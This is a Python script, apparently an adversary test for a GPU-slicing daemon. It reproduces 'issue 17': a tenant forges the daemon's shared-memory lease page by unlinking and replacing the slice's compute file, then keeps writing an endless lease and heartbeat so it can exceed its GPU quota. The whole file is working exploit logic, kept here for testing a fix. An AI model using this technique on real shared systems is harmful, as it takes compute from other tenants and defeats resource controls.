# SPDX-License-Identifier: Apache-2.0
"""The forged-lease-page adversary of issue 17, run inside a slice as its
tenant: copy the daemon's lease page (so that magic, version, size and
epoch are right), unlink <slice_dir>/compute, put the copy there and keep
writing a lease that never ends (and a fresh heartbeat) into it. Against a
shim that read its page from the tenant's slice directory this made a
100m `cap` slice use ~94% of the GPU. Usage: forge_page.py SECONDS
[PAGE] (PAGE: write the leases into that page in place); the slice's
config is $GPUSLICE_CONFIG."""
import mmap
import os
import struct
import sys
import time

conf = {}
with open(os.environ["GPUSLICE_CONFIG"]) as f:
    for line in f:
        if "=" in line and not line.lstrip().startswith("#"):
            k, v = line.split("=", 1)
            conf[k.strip()] = v.strip()
forged = os.path.join(conf["slice_dir"], "compute")
real = conf.get("lease_page", forged)
deadline = time.monotonic() + float(sys.argv[1])
while not os.path.exists(real) and time.monotonic() < deadline:
    time.sleep(0.01)
if len(sys.argv) > 2:
    # In place: the page itself, where its owner or mode let the tenant write.
    forged = real = sys.argv[2]
with open(real, "rb") as f:
    image = bytearray(f.read())
if forged != real:
    try:
        os.unlink(forged)
    except OSError:
        pass
    tmp = forged + ".forge"
    with open(tmp, "wb") as f:
        f.write(image)
    os.chmod(tmp, 0o444)
    os.rename(tmp, forged)
fd = os.open(forged, os.O_RDWR)
m = mmap.mmap(fd, len(image), mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
os.close(fd)
print("forged %s from %s" % (forged, real), flush=True)
gen = struct.unpack_from("<Q", m, 120)[0] + 1000
while time.monotonic() < deadline:
    now = time.monotonic_ns()
    gen += 1
    # heartbeat @104; seq @112 (even: no write in progress); gen @120;
    # start @128; until @136; then the futex word @144 (wakes waiters)
    struct.pack_into("<QQQQQ", m, 104, now, 2 * gen, gen, now, now + 3600 * 10**9)
    futex = struct.unpack_from("<I", m, 144)[0]
    struct.pack_into("<I", m, 144, (futex + 1) & 0xffffffff)
    time.sleep(0.002)
